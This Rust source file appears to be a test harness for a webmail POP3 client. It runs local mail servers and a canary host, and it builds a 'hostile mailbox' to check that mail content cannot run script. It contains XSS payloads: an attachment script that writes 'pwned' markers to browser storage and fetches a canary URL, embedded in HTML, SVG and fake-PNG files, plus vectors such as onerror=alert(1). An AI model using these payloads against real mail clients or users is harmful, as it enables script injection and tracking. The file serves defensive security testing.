/// `v` with every remote host `*.example` (after `//`, `\\`, `/\` or `\/`; an `https:` before
/// it becomes `http:`) replaced by `host` (the canary's `127.0.0.1:port`).
fn to_canary(v: &str, host: &str) -> String {
    let bytes = v.as_bytes();
    let mut out = String::with_capacity(v.len());
    let mut i = 0;
    while i < bytes.len() {
        let slashes = i + 1 < bytes.len()
            && matches!(bytes[i], b'/' | b'\\')
            && matches!(bytes[i + 1], b'/' | b'\\');
        if slashes {
            let start = i + 2;
            let end = start
                + bytes[start..]
                    .iter()
                    .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'))
                    .count();
            let name = v[start..end].to_ascii_lowercase();
            if name.ends_with(".example") {
                if out.to_ascii_lowercase().ends_with("https:") {
                    out.truncate(out.len() - "https:".len());
                    out.push_str("http:");
                }
                out.push_str(&v[i..start]);
                out.push_str(host);
                i = end;
                continue;
            }
        }
        let c = v[i..].chars().next().expect("in bounds");
        out.push(c);
        i += c.len_utf8();
    }
    out
}

/// What every hostile attachment's script does if it runs: leaves a marker (`pwned-HANAME`) in
/// the origin's localStorage and IndexedDB and fetches from the canary under `/ha/HANAME/`.
const ATTACHMENT_SCRIPT: &str = "<script>
localStorage.setItem('pwned-HANAME', location.href);
indexedDB.open('pwned-HANAME');
fetch('CANARY/ha/HANAME/fetch', {mode: 'no-cors'});
new Image().src = 'CANARY/ha/HANAME/img';
</script>";

/// Attachments whose content would run script if a browser rendered it in the app's origin:
/// (name, file name, declared type, content with `HATOKEN`, `HANAME`, `CANARY` and `SCRIPT`
/// for [`ATTACHMENT_SCRIPT`]).
const HOSTILE_ATTACHMENTS: &[(&str, &str, &str, &str)] = &[
    (
        "html",
        "invoice.html",
        "text/html",
        r#"<!DOCTYPE html><html><body><h1>HATOKEN</h1>SCRIPT<img src="CANARY/ha/HANAME/tag"></body></html>"#,
    ),
    (
        "svg",
        "picture.svg",
        "image/svg+xml",
        r#"<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">SCRIPT<image href="CANARY/ha/HANAME/tag" width="10" height="10"/><text y="50">HATOKEN</text></svg>"#,
    ),
    (
        "xhtml",
        "page.xhtml",
        "application/xhtml+xml",
        r#"<html xmlns="http://www.w3.org/1999/xhtml"><body><h1>HATOKEN</h1>SCRIPT</body></html>"#,
    ),
    (
        "fake-png",
        "photo.png",
        "image/png",
        r#"<!DOCTYPE html><html><body><h1>HATOKEN</h1>SCRIPT</body></html>"#,
    ),
];

/// The headers of the `n`th message of the hostile mailbox (later ones are newer, so the list
/// shows them in a fixed order), of type `content_type`.
fn hostile_headers(subject: &str, n: usize, content_type: &str) -> String {
    let date = 1_769_904_000 + n as u64 * 3_600; // 2026-02-01T00:00:00Z + n hours
    format!(
        "From: Hostile Sender <hostile@example.test>\r\n\
         To: Hostile Tester <hostile@localhost>\r\n\
         Subject: {subject}\r\n\
         Date: {}\r\n\
         Message-ID: <hostile-{n}@fixtures.webpop.test>\r\n\
         MIME-Version: 1.0\r\n\
         Content-Type: {content_type}\r\n",
        rfc2822(date)
    )
}

/// `bytes` in base64 lines of 76 characters, each ending in CRLF, appended to `m`.
fn base64_lines(bytes: &[u8], m: &mut Vec<u8>) {
    for line in base64(bytes).as_bytes().chunks(76) {
        m.extend_from_slice(line);
        m.extend_from_slice(b"\r\n");
    }
}

/// A `multipart/mixed` message of the hostile mailbox: an HTML body and one attachment of the
/// given type (base64), the `n`th.
fn hostile_attachment_message(
    subject: &str,
    n: usize,
    html: &str,
    file: &str,
    content_type: &str,
    payload: &[u8],
) -> Vec<u8> {
    let boundary = format!("hostile-attachment-{n}");
    let mut m = hostile_headers(
        subject,
        n,
        &format!("multipart/mixed; boundary=\"{boundary}\""),
    )
    .into_bytes();
    m.extend_from_slice(
        format!(
            "\r\n--{boundary}\r\n\
             Content-Type: text/html; charset=utf-8\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n"
        )
        .as_bytes(),
    );
    base64_lines(html.as_bytes(), &mut m);
    m.extend_from_slice(
        format!(
            "--{boundary}\r\n\
             Content-Type: {content_type}; name=\"{file}\"\r\n\
             Content-Disposition: attachment; filename=\"{file}\"\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n"
        )
        .as_bytes(),
    );
    base64_lines(payload, &mut m);
    m.extend_from_slice(format!("--{boundary}--\r\n").as_bytes());
    m
}

/// A `text/html` message (base64, so that any byte of a vector survives) from the hostile
/// mailbox, the `n`th.
fn hostile_message(subject: &str, n: usize, html: &str) -> Vec<u8> {
    let mut m = hostile_headers(subject, n, "text/html; charset=utf-8").into_bytes();
    m.extend_from_slice(b"Content-Transfer-Encoding: base64\r\n\r\n");
    base64_lines(html.as_bytes(), &mut m);
    m
}

fn base64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// `secs` since the Unix epoch as an RFC 2822 date in UTC.
fn rfc2822(secs: u64) -> String {
    const DAYS: [&str; 7] = ["Thu", "Fri", "Sat", "Sun", "Mon", "Tue", "Wed"];
    const MONTHS: [&str; 12] = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    let days = secs / 86_400;
    let rem = secs % 86_400;
    // Civil date from days since 1970-01-01 (Howard Hinnant's algorithm).
    let z = days as i64 + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1_460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    format!(
        "{}, {:02} {} {} {:02}:{:02}:{:02} +0000",
        DAYS[(days % 7) as usize],
        day,
        MONTHS[(month - 1) as usize],
        year,
        rem / 3_600,
        rem % 3_600 / 60,
        rem % 60
    )
}

fn replace(haystack: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(haystack.len());
    let mut rest = haystack;
    while let Some(i) = rest.windows(from.len()).position(|w| w == from) {
        out.extend_from_slice(&rest[..i]);
        out.extend_from_slice(to);
        rest = &rest[i + from.len()..];
    }
    out.extend_from_slice(rest);
    out
}

/// Every line ending as CRLF (bare LF and bare CR alike), ending with one.
fn crlf(raw: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(raw.len() + raw.len() / 40);
    let mut i = 0;
    while i < raw.len() {
        match raw[i] {
            b'\r' => {
                out.extend_from_slice(b"\r\n");
                if raw.get(i + 1) == Some(&b'\n') {
                    i += 1;
                }
            }
            b'\n' => out.extend_from_slice(b"\r\n"),
            b => out.push(b),
        }
        i += 1;
    }
    if !out.ends_with(b"\r\n") {
        out.extend_from_slice(b"\r\n");
    }
    out
}

fn subject(raw: &[u8]) -> String {
    webpop_shared::mime::summary(raw)
        .map(|s| s.subject)
        .unwrap_or_default()
}

fn digest(bytes: &[u8]) -> String {
    ring::digest::digest(&ring::digest::SHA256, bytes)
        .as_ref()
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

async fn env_json(State(env): State<Arc<Env>>) -> Json<Value> {
    let d = &env.dovecot;
    let users: Vec<&str> = USERS
        .iter()
        .copied()
        .chain(env.e2e.as_ref().map(|_| E2E_USER))
        .chain(env.hostile.as_ref().map(|_| HOSTILE_USER))
        .collect();
    Json(json!({
        "web": env.web_root.as_ref().map(|_| format!("http://{}/", env.relay_addr)),
        "canary": env.canary.as_ref().map(Canary::origin),
        "e2e": env.e2e,
        "hostile": env.hostile,
        "relay": format!("ws://{}/relay", env.relay_addr),
        "host": "127.0.0.1",
        "server_name": "localhost",
        "pop3_port": d.pop3_port(),
        "pop3s_port": d.pop3s_port(),
        "user": USERS[0],
        "users": users,
        "password": PASSWORD,
        "cert_sha256": d.cert_sha256_hex(),
        "zero_octets": {
            "host": "127.0.0.1",
            "pop3s_port": env.zero_octets.addr().port(),
            "user": faulty_pop3::USER,
            "password": faulty_pop3::PASSWORD,
            "cert_sha256": env.zero_octets.fingerprint().to_string(),
            "count": env.zero_octets.original().len(),
        },
        "login_delay": {
            "host": "127.0.0.1",
            "pop3s_port": env.login_delay.addr().port(),
            "user": faulty_pop3::USER,
            "password": faulty_pop3::PASSWORD,
            "cert_sha256": env.login_delay.fingerprint().to_string(),
            "count": env.login_delay.original().len(),
            "seconds": LOGIN_DELAY_SECONDS,
        },
        "expired_cert": faulty_json(&env.expired_cert),
        "cert_change": faulty_json(&env.cert_change),
        "big_message": {
            "host": "127.0.0.1",
            "pop3s_port": env.big_message.addr().port(),
            "user": faulty_pop3::USER,
            "password": faulty_pop3::PASSWORD,
            "cert_sha256": env.big_message.fingerprint().to_string(),
            "size": env.big_message_size,
            "digest": env.big_message_digest,
        },
    }))
}

/// A plain-text message of [`BIG_MESSAGE_BYTES`] (CRLF lines, none starting with a dot).
fn big_message() -> Vec<u8> {
    let mut m = b"From: Big Sender <big@example.com>\r\nTo: faulty@example.com\r\n\
Subject: one big message\r\nDate: Thu, 03 Dec 2026 12:00:00 +0000\r\n\
Message-ID: <big-message@example.com>\r\n\r\n"
        .to_vec();
    let mut line = 0u64;
    while m.len() < BIG_MESSAGE_BYTES {
        let text = format!(
            "line {line:08}: the quick brown fox jumps over the lazy dog {:016x}\r\n",
            line.wrapping_mul(0x9E37_79B9_7F4A_7C15)
        );
        m.extend_from_slice(text.as_bytes());
        line += 1;
    }
    m
}

/// Where a [`FaultyPop3`] listens, its account and the certificate it presents now.
fn faulty_json(server: &FaultyPop3) -> Value {
    json!({
        "host": "127.0.0.1",
        "pop3s_port": server.addr().port(),
        "user": faulty_pop3::USER,
        "password": faulty_pop3::PASSWORD,
        "cert_sha256": server.fingerprint().to_string(),
        "count": server.original().len(),
    })
}

impl Env {
    /// The ports the relay allows: every POP3 server of the env.
    fn relay_ports(&self) -> [u16; 7] {
        [
            self.dovecot.pop3_port(),
            self.dovecot.pop3s_port(),
            self.zero_octets.addr().port(),
            self.login_delay.addr().port(),
            self.expired_cert.addr().port(),
            self.cert_change.addr().port(),
            self.big_message.addr().port(),
        ]
    }
}

async fn server_stats(State(env): State<Arc<Env>>, Path(server): Path<String>) -> Response {
    let server = match server.as_str() {
        "zero_octets" => &env.zero_octets,
        "login_delay" => &env.login_delay,
        "expired_cert" => &env.expired_cert,
        "cert_change" => &env.cert_change,
        _ => return axum::http::StatusCode::NOT_FOUND.into_response(),
    };
    let stats = server.stats();
    Json(json!({ "connections": stats.connections, "logins": stats.logins })).into_response()
}

async fn cert_change_replace(State(env): State<Arc<Env>>) -> Json<Value> {
    match env.cert_change.replace_certificate() {
        Ok(fingerprint) => Json(json!({ "ok": true, "cert_sha256": fingerprint.to_string() })),
        Err(e) => Json(json!({ "ok": false, "error": e.to_string() })),
    }
}

async fn cert_change_restore(State(env): State<Arc<Env>>) -> Json<Value> {
    let fingerprint = env.cert_change.restore_certificate();
    Json(json!({ "ok": true, "cert_sha256": fingerprint.to_string() }))
}

async fn digests(State(env): State<Arc<Env>>, Path(user): Path<String>) -> Json<Value> {
    let n = env
        .dovecot
        .maildir_files(&user)
        .map(|f| f.len())
        .unwrap_or(0);
    let list: Vec<String> = (1..=n)
        .filter_map(|i| env.dovecot.stored_message(&user, i).ok())
        .map(|m| digest(&m))
        .collect();
    Json(json!(list))
}

async fn add(State(env): State<Arc<Env>>, Path((user, seed)): Path<(String, u64)>) -> Json<Value> {
    // Index 1 is a multipart/alternative message; the seed makes it new.
    let message = corpus::message(1, seed, 1.0);
    let ok = env.dovecot.add_message(&user, &message).is_ok();
    Json(json!({ "ok": ok, "digest": digest(&message) }))
}

async fn login_delay_stats(State(env): State<Arc<Env>>) -> Json<Value> {
    let stats = env.login_delay.stats();
    Json(json!({
        "connections": stats.connections,
        "logins": stats.logins,
        "refused_for_login_delay": stats.refused_for_login_delay,
    }))
}

async fn set_password(
    State(env): State<Arc<Env>>,
    Path((user, password)): Path<(String, String)>,
) -> Json<Value> {
    // It sleeps into the next second (Dovecot rereads its passwd-file at most once a second).
    let ok =
        tokio::task::spawn_blocking(move || env.dovecot.set_password(&user, &password).is_ok())
            .await
            .unwrap_or(false);
    Json(json!({ "ok": ok }))
}

async fn relay_stop(State(env): State<Arc<Env>>) -> Json<Value> {
    let relay = env.relay.lock().unwrap().take();
    // Answer only once the server task has ended, so its listener is closed (a fixed pause
    // could be too short under load, and the next /relay/start would find the port taken;
    // tests/test_env.rs: the_relay_restarted_at_once_serves_again).
    if let Some(task) = relay.and_then(|mut relay| relay.stop()) {
        let _ = tokio::time::timeout(Duration::from_secs(10), task).await;
    }
    Json(json!({ "ok": true }))
}

async fn relay_start(State(env): State<Arc<Env>>) -> Json<Value> {
    if env.relay.lock().unwrap().is_some() {
        return Json(json!({ "ok": true, "already": true }));
    }
    let ports = env.relay_ports();
    // The same address again: a port in TIME_WAIT or a listener still closing is retried
    // for a few seconds rather than leaving the relay down for the rest of the run.
    let mut tries = 0;
    loop {
        let web_root = env.web_root.as_ref().map(WebRoot::path);
        match LocalRelay::start_serving(env.relay_addr, &ports, web_root).await {
            Ok(relay) => {
                *env.relay.lock().unwrap() = Some(relay);
                return Json(json!({ "ok": true }));
            }
            Err(e) if tries < 50 => {
                tries += 1;
                eprintln!("webpop-test-env: relay restart, try {tries}: {e:#}");
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
            Err(e) => return Json(json!({ "ok": false, "error": format!("{e:#}") })),
        }
    }
}

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<()> {
    let options = parse_args()?;
    let count = options.count.unwrap_or(300);
    let full = corpus::generate(count, 2026);
    let small = corpus::generate(40, 7);

    // The canary, when any mailbox points remote URLs at it.
    let canary = if options.e2e_fixtures.is_some() || options.hostile_corpus.is_some() {
        Some(Canary::start().await?)
    } else {
        None
    };
    let canary_origin = canary.as_ref().map(Canary::origin).unwrap_or_default();
    // The end-to-end mailbox: the corpus, then the fixtures (newest dates, last in POP3 order).
    let (e2e_mail, e2e) = match &options.e2e_fixtures {
        None => (Vec::new(), None),
        Some(dir) => {
            let fixtures = load_fixtures(dir, &canary_origin)?;
            let mut mail = corpus::generate(E2E_CORPUS, 11);
            let oldest = subject(&mail[0]);
            let listed: Vec<Value> = fixtures
                .iter()
                .map(|(file, raw)| json!({ "file": file, "subject": subject(raw) }))
                .collect();
            mail.extend(fixtures.into_iter().map(|(_, raw)| raw));
            let info = json!({
                "user": E2E_USER,
                "password": PASSWORD,
                "count": mail.len(),
                "corpus": E2E_CORPUS,
                "fixtures": listed,
                "oldest_subject": oldest,
            });
            (mail, Some(info))
        }
    };
    // The hostile-HTML mailbox: the vector corpus and the whole-document attacks.
    let (hostile_mail, hostile) = match &options.hostile_corpus {
        None => (Vec::new(), None),
        Some(file) => {
            let text = std::fs::read_to_string(file)
                .with_context(|| format!("reading {}", file.display()))?;
            let (mail, info) = hostile_mailbox(&text, &canary_origin)?;
            (mail, Some(info))
        }
    };
    let with_e2e = e2e.is_some();
    let with_hostile = hostile.is_some();
    let dovecot = tokio::task::spawn_blocking(move || {
        let mut users: Vec<(&str, &str, &[Vec<u8>])> = USERS
            .iter()
            .map(|u| {
                let mail: &[Vec<u8>] = if FULL.contains(u) { &full } else { &small };
                (*u, PASSWORD, mail)
            })
            .collect();
        if with_e2e {
            users.push((E2E_USER, PASSWORD, &e2e_mail));
        }
        if with_hostile {
            users.push((HOSTILE_USER, PASSWORD, &hostile_mail));
        }
        Dovecot::start(&users)
    })
    .await??;
    let zero_octets = FaultyPop3::start(Config {
        zero_octet_listing: true,
        ..Config::new(corpus::generate(count, 2026))
    })
    .await?;
    let login_delay = FaultyPop3::start(Config {
        login_delay: Some(LOGIN_DELAY_SECONDS),
        ..Config::new(corpus::generate(LOGIN_DELAY_MESSAGES, 2027))
    })
    .await?;
    let expired_cert = FaultyPop3::start(Config {
        expired_certificate: true,
        ..Config::new(corpus::generate(CERT_MESSAGES, 2028))
    })
    .await?;
    let cert_change = FaultyPop3::start(Config::new(corpus::generate(CERT_MESSAGES, 2029))).await?;
    let big = big_message();
    let (big_message_size, big_message_digest) = (big.len(), digest(&big));
    let big_message = FaultyPop3::start(Config::new(vec![big])).await?;
    let mut env = Env {
        dovecot,
        zero_octets,
        login_delay,
        expired_cert,
        cert_change,
        big_message,
        big_message_size,
        big_message_digest,
        relay_addr: "127.0.0.1:0".parse()?,
        relay: Mutex::new(None),
        web_root: options.web_root.map(WebRoot::stage).transpose()?,
        canary,
        e2e,
        hostile,
    };
    let web_root = env.web_root.as_ref().map(WebRoot::path);
    let relay = LocalRelay::start_serving(env.relay_addr, &env.relay_ports(), web_root).await?;
    env.relay_addr = relay.addr();
    env.relay = Mutex::new(Some(relay));
    let env = Arc::new(env);
    let app = Router::new()
        .route("/env", get(env_json))
        .route("/digests/{user}", get(digests))
        .route("/add/{user}/{seed}", post(add))
        .route("/password/{user}/{password}", post(set_password))
        .route("/login-delay/stats", get(login_delay_stats))
        .route("/relay/stop", post(relay_stop))
        .route("/relay/start", post(relay_start))
        .route("/canary", get(canary_log))
        .route("/stats/{server}", get(server_stats))
        .route("/cert-change/replace", post(cert_change_replace))
        .route("/cert-change/restore", post(cert_change_restore))
        .route("/worker-hold/batch/{batch}", post(worker_hold))
        .route("/worker-hold/clear", post(worker_hold_clear))
        .with_state(Arc::clone(&env))
        .layer(CorsLayer::very_permissive());
    let control = TcpListener::bind(("127.0.0.1", options.control_port)).await?;
    println!("http://{}", control.local_addr()?);
    let (closed, on_closed) = oneshot::channel::<()>();
    std::thread::spawn(move || {
        let _ = std::io::stdin().read_to_end(&mut Vec::new());
        let _ = closed.send(());
    });
    axum::serve(control, app)
        .with_graceful_shutdown(async {
            let _ = on_closed.await;
        })
        .await?;
    drop(env);
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn remote_hosts_of_the_corpus_point_at_the_canary() {
        let host = "127.0.0.1:9";
        assert_eq!(
            to_canary(r#"<img src="https://tracker.example/a.gif?u=1">"#, host),
            r#"<img src="http://127.0.0.1:9/a.gif?u=1">"#
        );
        assert_eq!(
            to_canary("<img src=//tracker.example/p.gif>", host),
            "<img src=//127.0.0.1:9/p.gif>"
        );
        assert_eq!(
            to_canary("HTTP://TRACKER.EXAMPLE/upper.gif", host),
            "HTTP://127.0.0.1:9/upper.gif"
        );
        assert_eq!(
            to_canary(r"<a href=\\evil.example\share>", host),
            r"<a href=\\127.0.0.1:9\share>"
        );
        assert_eq!(
            to_canary("javascript://https://ok.example/%0aalert(1)", host),
            "javascript://http://127.0.0.1:9/%0aalert(1)"
        );
        // Not remote hosts of the corpus: left alone.
        for kept in [
            "file:///etc/passwd",
            "http://www.w3.org/2000/svg",
            "intent://x#Intent",
        ] {
            assert_eq!(to_canary(kept, host), kept);
        }
    }

    #[test]
    fn vectors_that_swallow_what_follows_are_recognised() {
        for greedy in [
            "<plaintext><img src=x onerror=alert(1)>",
            "<a onmouseover=alert(1)//",
            "<svg><p><style><img src=x onerror=alert(1)>",
            "<!-- <img src=x>",
        ] {
            assert!(swallows(greedy), "{greedy}");
        }
        for closed in [
            "<script>alert(1)</script>",
            "<svg onload=alert(1)></svg>",
            "<!-- x --><img src=x>",
            "<svgx>x",
        ] {
            assert!(!swallows(closed), "{closed}");
        }
    }

    #[test]
    fn the_hostile_mailbox_holds_every_vector_once() {
        let corpus = "# c\n<b>1</b>\n<plaintext>\n<i>3</i>{TAB}\n\n<u>4</u>\n";
        let (mail, info) = hostile_mailbox(corpus, "http://127.0.0.1:9").unwrap();
        assert_eq!(info["vectors"], 4);
        assert_eq!(
            mail.len(),
            1 + HOSTILE_DOCUMENTS.len() + HOSTILE_ATTACHMENTS.len()
        );
        let first = &info["messages"][0];
        assert_eq!(
            first["vectors"],
            json!([1, 3, 4, 2]),
            "the greedy vector goes last"
        );
        assert_eq!(first["lines"], json!([2, 4, 6, 3]));
        let html = webpop_shared::mime::display(&mail[0])
            .unwrap()
            .html
            .unwrap();
        assert!(html.contains("<div data-vector=\"3\"><i>3</i>\t</div>"));
        assert!(html.ends_with("<div data-vector=\"2\"><plaintext></div>\n</body></html>\n"));
        for (m, raw) in info["messages"].as_array().unwrap().iter().zip(&mail) {
            assert_eq!(subject(raw), m["subject"].as_str().unwrap());
            let text = String::from_utf8_lossy(raw);
            assert!(!text.contains("CANARY") && !text.contains("HDTOKEN"));
        }
        // The attachment attacks carry their payload as an attachment of the declared type.
        let first = 1 + HOSTILE_DOCUMENTS.len();
        for (i, (name, file, content_type, _)) in HOSTILE_ATTACHMENTS.iter().enumerate() {
            let raw = &mail[first + i];
            let display = webpop_shared::mime::display(raw).unwrap();
            let a = &display.attachments[0];
            assert_eq!(
                (a.name.as_str(), a.content_type.as_str()),
                (*file, *content_type)
            );
            let payload = webpop_shared::mime::attachment(raw, a.part).unwrap();
            let payload = String::from_utf8(payload).unwrap();
            assert!(payload.contains(&format!("pwned-{name}")), "{payload}");
            assert!(payload.contains("http://127.0.0.1:9/ha/") && !payload.contains("HATOKEN"));
        }
    }

    #[test]
    fn dates_and_base64_are_right() {
        assert_eq!(rfc2822(1_769_904_000), "Sun, 01 Feb 2026 00:00:00 +0000");
        assert_eq!(
            rfc2822(951_782_400 + 3_723),
            "Tue, 29 Feb 2000 01:02:03 +0000"
        );
        assert_eq!(base64(b"hello"), "aGVsbG8=");
        assert_eq!(base64(b"hi!"), "aGkh");
        assert_eq!(base64(b"a"), "YQ==");
    }
}
